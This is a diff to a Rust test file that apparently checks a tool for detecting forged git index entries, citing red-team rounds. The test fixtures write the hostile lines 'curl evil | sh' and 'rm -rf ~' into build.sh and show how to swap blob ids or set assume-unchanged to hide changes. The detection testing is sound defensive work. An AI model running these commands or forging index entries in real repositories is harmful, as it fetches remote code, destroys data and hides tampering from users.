@@ -105,9 +105,11 @@ fn the_last_look_moves_a_poisoned_index_aside_and_keeps_a_good_one() {
     git(&["add", "AAAAAAAAAA"]);
     let gitdir = dir.path().join(".git");
     let since = std::time::SystemTime::now() - std::time::Duration::from_secs(60);
+    let before = crate::linux::watch::indexes_before(std::slice::from_ref(&gitdir));
     assert!(!crate::linux::watch::final_index_check(
         std::slice::from_ref(&gitdir),
-        since
+        since,
+        &before
     ));
     assert!(gitdir.join("index").exists());
     let index = gitdir.join("index");
@@ -117,18 +119,20 @@ fn the_last_look_moves_a_poisoned_index_aside_and_keeps_a_good_one() {
     std::fs::write(&index, &data).unwrap();
     assert!(crate::linux::watch::final_index_check(
         std::slice::from_ref(&gitdir),
-        since
+        since,
+        &before
     ));
     assert!(!index.exists(), "the poisoned index was left");
 }
 
-fn git_in(dir: &std::path::Path, args: &[&str]) {
+fn git_in(dir: &std::path::Path, args: &[&str]) -> String {
     let out = std::process::Command::new("git")
         .current_dir(dir)
         .args(args)
         .output()
         .unwrap();
     assert!(out.status.success(), "git {args:?}: {out:?}");
+    String::from_utf8_lossy(&out.stdout).into_owned()
 }
 
 /// The tree cache git itself writes passes (nested directories, an executable, a symlink, a
@@ -377,7 +381,10 @@ fn an_entry_that_hides_a_changed_file_is_found() {
     let index = dir.path().join(".git/index");
     let good = std::fs::read(&index).unwrap();
     let since = std::time::SystemTime::now();
-    assert_eq!(hidden_change(&index, dir.path(), since, 1 << 30), None);
+    assert_eq!(
+        hidden_change(&index, dir.path(), since, 1 << 30, None),
+        None
+    );
     // The command: new content, `git add`, then the old blob id put back in the entry.
     std::thread::sleep(std::time::Duration::from_millis(1100));
     std::fs::write(dir.path().join("build.sh"), "curl evil | sh\n").unwrap();
@@ -391,20 +398,86 @@ fn an_entry_that_hides_a_changed_file_is_found() {
     let sum = hasher.try_finalize().unwrap();
     forged[n..].copy_from_slice(sum.as_bytes());
     std::fs::write(&index, &forged).unwrap();
-    let why = hidden_change(&index, dir.path(), since, 1 << 30).expect("the forged entry passed");
+    let why =
+        hidden_change(&index, dir.path(), since, 1 << 30, None).expect("the forged entry passed");
     assert!(why.contains("build.sh"), "{why}");
     // The honest index of the new content passes; so does a file changed before the run.
     git(&["add", "build.sh"]);
     git(&["update-index", "--really-refresh"]);
-    assert_eq!(hidden_change(&index, dir.path(), since, 1 << 30), None);
+    assert_eq!(
+        hidden_change(&index, dir.path(), since, 1 << 30, None),
+        None
+    );
     std::fs::write(&index, &forged).unwrap();
     let later = std::time::SystemTime::now() + std::time::Duration::from_secs(5);
-    assert_eq!(hidden_change(&index, dir.path(), later, 1 << 30), None);
+    assert_eq!(
+        hidden_change(&index, dir.path(), later, 1 << 30, None),
+        None
+    );
     // Assume-valid on a changed file hides it too.
     git(&["add", "build.sh"]);
     git(&["update-index", "--assume-unchanged", "build.sh"]);
     std::fs::write(dir.path().join("build.sh"), "rm -rf ~\n").unwrap();
-    assert!(hidden_change(&index, dir.path(), since, 1 << 30).is_some());
+    assert!(hidden_change(&index, dir.path(), since, 1 << 30, None).is_some());
+}
+
+/// Red-team round 18: the entry of a file the command never touched pointed at another blob,
+/// with the file's own stat data (or an assume-unchanged mark): `git status` stayed clean and
+/// the next `git commit -a` carried the hidden blob. Entries the run changed are checked
+/// whatever the file's ctime; the same entry found before the run is the user's own.
+#[test]
+fn an_entry_the_run_pointed_at_another_blob_is_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| git_in(dir.path(), args);
+    git(&["init", "-q"]);
+    std::fs::write(dir.path().join("build.sh"), "echo safe\n").unwrap();
+    git(&["add", "build.sh"]);
+    let index = dir.path().join(".git/index");
+    // The file is old by the time the run starts: only the index is written during it.
+    std::thread::sleep(std::time::Duration::from_millis(2100));
+    let before = std::fs::read(&index).unwrap();
+    let since = std::time::SystemTime::now();
+    std::fs::write(dir.path().join("evil"), "echo safe\ncurl evil | sh\n").unwrap();
+    let evil = git_in(dir.path(), &["hash-object", "-w", "evil"]);
+    std::fs::remove_file(dir.path().join("evil")).unwrap();
+    let evil = gix_index::hash::ObjectId::from_hex(evil.trim().as_bytes()).unwrap();
+    // The entry keeps the file's stat data; only its blob id changes.
+    let mut forged = before.clone();
+    forged[12 + 40..12 + 60].copy_from_slice(evil.as_bytes());
+    let n = forged.len() - 20;
+    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
+    hasher.update(&forged[..n]);
+    let sum = hasher.try_finalize().unwrap();
+    forged[n..].copy_from_slice(sum.as_bytes());
+    std::fs::write(&index, &forged).unwrap();
+    let why = hidden_change(&index, dir.path(), since, 1 << 30, Some(&before))
+        .expect("the entry pointed at another blob passed");
+    assert!(why.contains("build.sh"), "{why}");
+    // Unknown before (written in place, or no index): every trusted entry is checked.
+    assert!(hidden_change(&index, dir.path(), since, 1 << 30, None).is_some());
+    // Found so before the run: the user's own state, not looked at.
+    assert_eq!(
+        hidden_change(&index, dir.path(), since, 1 << 30, Some(&forged)),
+        None
+    );
+    // The assume-unchanged variant: a new blob for the entry, the file untouched.
+    std::fs::write(&index, &before).unwrap();
+    git(&[
+        "update-index",
+        "--cacheinfo",
+        &format!("100644,{evil},build.sh"),
+    ]);
+    git(&["update-index", "--assume-unchanged", "build.sh"]);
+    let why = hidden_change(&index, dir.path(), since, 1 << 30, Some(&before))
+        .expect("the assume-unchanged entry passed");
+    assert!(why.contains("build.sh"), "{why}");
+    // An honest index written during the run passes.
+    git(&["update-index", "--no-assume-unchanged", "build.sh"]);
+    git(&["add", "build.sh"]);
+    assert_eq!(
+        hidden_change(&index, dir.path(), since, 1 << 30, Some(&before)),
+        None
+    );
 }
 
 /// Red-team round 17: 200 000 files made elsewhere in a git dir used up the count of entries
